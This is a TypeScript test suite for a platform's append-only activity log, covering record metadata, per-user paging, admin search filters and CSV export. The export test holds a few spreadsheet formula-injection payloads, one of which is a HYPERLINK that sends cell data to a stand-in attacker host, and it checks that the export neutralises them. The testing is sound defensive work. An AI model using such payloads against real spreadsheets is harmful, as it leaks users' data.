import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { Client, json, registerUser, signedInClient, testPlatform, uniquePerson, type TestPlatform } from '../../test/harness.js';

interface Item {
  id: number;
  occurredAt: string;
  actorType: string;
  actorId: string | null;
  subjectUserId: string | null;
  action: string;
  objectType: string | null;
  objectId: string | null;
  outcome: string;
  ip: string | null;
  userAgent: string | null;
  details: Record<string, unknown>;
}
interface Page {
  items: Item[];
  nextBefore: number | null;
}

/** RFC 4180: quoted cells may hold commas, doubled quotes and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += ch;
  }
  assert.equal(quoted, false, 'unterminated quote');
  assert.equal(row.length + cell.length, 0, 'the file ends with CRLF');
  return rows;
}

const CSV_HEADER = ['id', 'occurred_at', 'actor_type', 'actor_id', 'subject_user_id', 'action', 'object_type', 'object_id', 'outcome', 'ip', 'user_agent', 'request_id', 'details'];

describe('the activity log', () => {
  let t: TestPlatform;
  let admin: Client;
  before(async () => {
    t = await testPlatform();
    admin = (await signedInClient(t, 'admin')).client;
  });
  after(() => t.close());

  const adminPage = async (query: string) => {
    const res = await admin.get(`/api/admin/activity?${query}`);
    assert.equal(res.statusCode, 200, `${query}: ${res.body}`);
    return json<Page>(res);
  };

  test('is append-only in the database: UPDATE, DELETE and TRUNCATE fail', async () => {
    const person = await registerUser(t.app, 'appendonly');
    const before = await t.db.query<{ id: number; action: string }>('SELECT id, action FROM activity_log WHERE subject_user_id = $1', [person.id]);
    assert.equal(before.length, 1);
    const id = before[0]!.id;
    const total = async () => (await t.db.query<{ n: number }>('SELECT count(*)::int AS n FROM activity_log'))[0]!.n;
    const count = await total();

    await assert.rejects(t.db.query("UPDATE activity_log SET action = 'auth.nothing_happened' WHERE id = $1", [id]), /append-only/);
    await assert.rejects(t.db.query('UPDATE activity_log SET details = $2 WHERE id = $1', [id, '{}']), /append-only/);
    await assert.rejects(t.db.query('DELETE FROM activity_log WHERE id = $1', [id]), /append-only/);
    await assert.rejects(t.db.query('DELETE FROM activity_log'), /append-only/);
    await assert.rejects(t.db.query('TRUNCATE activity_log'), /append-only/);
    await assert.rejects(
      t.db.tx(async (tx) => {
        await tx.query('DELETE FROM activity_log WHERE id = $1', [id]);
      }),
      /append-only/,
    );

    const after = await t.db.query<{ id: number; action: string }>('SELECT id, action FROM activity_log WHERE subject_user_id = $1', [person.id]);
    assert.deepEqual(after, before);
    assert.equal(await total(), count);
    // Appending still works.
    await t.db.query("INSERT INTO activity_log (actor_type, action) VALUES ('system', 'test.appended')");
    assert.equal(await total(), count + 1);
  });

  test('records carry the address, user agent and request id of the request', async () => {
    const person = uniquePerson('meta');
    const c = new Client(t.app);
    c.ip = '198.51.100.77';
    c.userAgent = 'ActivityTest/1.0 (KaiOS)';
    await c.start();
    // TRUST_PROXY is off, so a forwarded-for header must not replace the real address.
    const reg = await c.post('/api/auth/register', person, { 'x-forwarded-for': '203.0.113.250' });
    assert.equal(reg.statusCode, 201, reg.body);
    const id = json<{ user: { id: string } }>(reg).user.id;
    const login = await c.login(person.email, person.password);
    assert.equal(login.statusCode, 200);

    const rows = await t.db.query<{ action: string; ip: string; user_agent: string; request_id: string }>(
      'SELECT action, ip, user_agent, request_id FROM activity_log WHERE subject_user_id = $1 ORDER BY id',
      [id],
    );
    assert.deepEqual(rows.map((r) => r.action), ['auth.register', 'auth.login']);
    for (const r of rows) {
      assert.equal(r.ip, '198.51.100.77');
      assert.equal(r.user_agent, 'ActivityTest/1.0 (KaiOS)');
    }
    assert.equal(rows[0]!.request_id, reg.headers['x-request-id']);
    assert.equal(rows[1]!.request_id, login.headers['x-request-id']);

    const mine = json<Page>(await c.get('/api/me/activity')).items;
    assert.ok(mine.every((i) => i.ip === '198.51.100.77' && i.userAgent === 'ActivityTest/1.0 (KaiOS)'));
  });

  test('a customer pages through exactly their own records, newest first', async () => {
    const { client: c, person } = await signedInClient(t, 'customer');
    const other = await signedInClient(t, 'customer');
    for (let i = 0; i < 3; i++) {
      assert.equal((await c.patch('/api/me', { name: `Renamed ${i}` })).statusCode, 200);
      assert.equal((await other.client.patch('/api/me', { name: `Other ${i}` })).statusCode, 200);
    }
    assert.equal((await new Client(t.app).login(person.email, 'wrong-password')).statusCode, 401);

    const expected = (await t.db.query<{ id: number }>('SELECT id FROM activity_log WHERE subject_user_id = $1 ORDER BY id DESC', [person.id])).map((r) => r.id);
    assert.equal(expected.length, 6, 'register, login, three renames, one failed sign-in');

    const seen: number[] = [];
    let before: number | null = null;
    let pages = 0;
    do {
      const res = await c.get(`/api/me/activity?limit=4${before ? `&before=${before}` : ''}`);
      assert.equal(res.statusCode, 200, res.body);
      const page = json<Page>(res);
      assert.ok(page.items.length <= 4);
      for (const item of page.items) assert.equal(item.subjectUserId, person.id);
      seen.push(...page.items.map((i) => i.id));
      before = page.nextBefore;
      pages++;
    } while (before !== null && pages < 10);
    assert.deepEqual(seen, expected);
    assert.equal(pages, 2);

    // Filters of the admin search are not accepted here: nobody widens their view by asking.
    const widened = await c.get(`/api/me/activity?subjectUserId=${other.person.id}`);
    assert.equal(widened.statusCode, 400);
    assert.equal((await c.get('/api/admin/activity')).statusCode, 403);
  });

  describe('admin search', () => {
    let alice: Awaited<ReturnType<typeof registerUser>>;
    before(async () => {
      alice = await registerUser(t.app, 'alice');
      const c = new Client(t.app);
      assert.equal((await c.login(alice.email, 'wrong-password')).statusCode, 401);
      assert.equal((await c.login(alice.email, alice.password)).statusCode, 200);
      await t.db.query(
        `INSERT INTO activity_log (occurred_at, actor_type, action, subject_user_id, outcome) VALUES
         ('2001-01-01T00:00:00Z', 'system', 'test.dated', NULL, 'success'),
         ('2001-01-02T00:00:00Z', 'system', 'test.dated', NULL, 'success'),
         ('2001-01-03T00:00:00Z', 'system', 'test.dated', NULL, 'failure'),
         (now(), 'system', 'auth.loginxfailed', NULL, 'success')`,
      );
    });

    test('action: exact, or a prefix with a trailing *, where _ and % are literal', async () => {
      const exact = await adminPage('action=auth.login&limit=200');
      assert.ok(exact.items.length > 0);
      assert.ok(exact.items.every((i) => i.action === 'auth.login'));

      const prefix = await adminPage('action=auth.login*&limit=200');
      const actions = new Set(prefix.items.map((i) => i.action));
      assert.ok(actions.has('auth.login') && actions.has('auth.login_failed') && actions.has('auth.loginxfailed'), [...actions].join());
      assert.ok(prefix.items.every((i) => i.action.startsWith('auth.login')));

      const underscore = await adminPage('action=auth.login_*&limit=200');
      assert.ok(underscore.items.some((i) => i.action === 'auth.login_failed'));
      assert.ok(underscore.items.every((i) => i.action.startsWith('auth.login_')), 'the _ is not a wildcard');

      const all = await adminPage('action=auth.*&limit=200');
      assert.ok(all.items.some((i) => i.action === 'auth.register'));
      assert.ok(all.items.every((i) => i.action.startsWith('auth.')));

      const bad = await admin.get('/api/admin/activity?action=auth.%25');
      assert.equal(bad.statusCode, 400, 'only letters, dots, underscores and a final *');
    });

    test('outcome and subjectUserId', async () => {
      const failures = await adminPage('outcome=failure&limit=200');
      assert.ok(failures.items.length > 0);
      assert.ok(failures.items.every((i) => i.outcome === 'failure'));
      assert.ok(failures.items.some((i) => i.action === 'auth.login_failed' && i.subjectUserId === alice.id));

      const hers = await adminPage(`subjectUserId=${alice.id}&limit=200`);
      assert.deepEqual(hers.items.map((i) => i.action), ['auth.login', 'auth.login_failed', 'auth.register']);
      assert.ok(hers.items.every((i) => i.subjectUserId === alice.id));

      const both = await adminPage(`subjectUserId=${alice.id}&outcome=failure`);
      assert.deepEqual(both.items.map((i) => i.action), ['auth.login_failed']);
    });

    test('from is inclusive, to is exclusive', async () => {
      const window = await adminPage('action=test.dated&from=2001-01-02T00:00:00Z&to=2001-01-03T00:00:00Z');
      assert.deepEqual(window.items.map((i) => i.occurredAt), ['2001-01-02T00:00:00.000Z']);
      const from = await adminPage('action=test.dated&from=2001-01-02T00:00:00Z');
      assert.deepEqual(from.items.map((i) => i.occurredAt), ['2001-01-03T00:00:00.000Z', '2001-01-02T00:00:00.000Z']);
      const to = await adminPage('action=test.dated&to=2001-01-02T00:00:00Z');
      assert.deepEqual(to.items.map((i) => i.occurredAt), ['2001-01-01T00:00:00.000Z']);
      const offset = await adminPage(`action=test.dated&from=${encodeURIComponent('2001-01-02T05:30:00+05:30')}`);
      assert.equal(offset.items.length, 2, 'time zone offsets are honoured');
    });

    test('paging with before walks the whole filtered result once', async () => {
      const everything = (await adminPage('limit=200')).items.map((i) => i.id);
      const seen: number[] = [];
      let before: number | null = null;
      do {
        const page: Page = await adminPage(`limit=7${before ? `&before=${before}` : ''}`);
        seen.push(...page.items.map((i) => i.id));
        before = page.nextBefore;
      } while (before !== null);
      assert.deepEqual(seen, everything);
    });
  });

  test('the CSV export is text/csv with a header row and cannot carry spreadsheet formulas', async () => {
    const dangerous = ['=HYPERLINK("https://evil.example/?q="&A1,"Click")', '+SUM(1,2)', '-2+3', '@SUM(A1:A9)', '\t=1+1'];
    const person = uniquePerson('csv');
    const reg = new Client(t.app);
    reg.ip = '198.51.100.90';
    reg.userAgent = dangerous[0]!;
    await reg.start();
    const created = await reg.post('/api/auth/register', person);
    assert.equal(created.statusCode, 201, created.body);
    const id = json<{ user: { id: string } }>(created).user.id;
    for (const ua of dangerous.slice(1)) {
      const c = new Client(t.app);
      c.ip = '198.51.100.91';
      c.userAgent = ua;
      assert.equal((await c.login(person.email, 'wrong-password')).statusCode, 401);
    }

    const res = await admin.get(`/api/admin/activity.csv?subjectUserId=${id}`);
    assert.equal(res.statusCode, 200, res.body);
    assert.equal(res.headers['content-type'], 'text/csv; charset=utf-8');
    assert.match(String(res.headers['content-disposition']), /^attachment; filename="activity-\d{4}-\d{2}-\d{2}\.csv"$/);
    const rows = parseCsv(res.body);
    assert.deepEqual(rows[0], CSV_HEADER);
    const data = rows.slice(1);
    assert.equal(data.length, dangerous.length);
    const col = (name: string) => CSV_HEADER.indexOf(name);
    assert.deepEqual(
      data.map((r) => r[col('user_agent')]).sort(),
      dangerous.map((ua) => `'${ua}`).sort(),
      'every formula-like cell is prefixed with a quote',
    );
    for (const r of data) {
      assert.equal(r.length, CSV_HEADER.length);
      assert.equal(r[col('subject_user_id')], id);
      for (const cell of r) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `cell ${JSON.stringify(cell)}`);
      assert.deepEqual(typeof JSON.parse(r[col('details')]!), 'object');
    }
    const register = data.find((r) => r[col('action')] === 'auth.register')!;
    assert.equal(register[col('ip')], '198.51.100.90');

    // The export follows the same filters as the search.
    const filtered = parseCsv((await admin.get(`/api/admin/activity.csv?subjectUserId=${id}&action=auth.register`)).body);
    assert.equal(filtered.length, 2);
    assert.equal((await new Client(t.app).get('/api/admin/activity.csv')).statusCode, 401);
  });
});
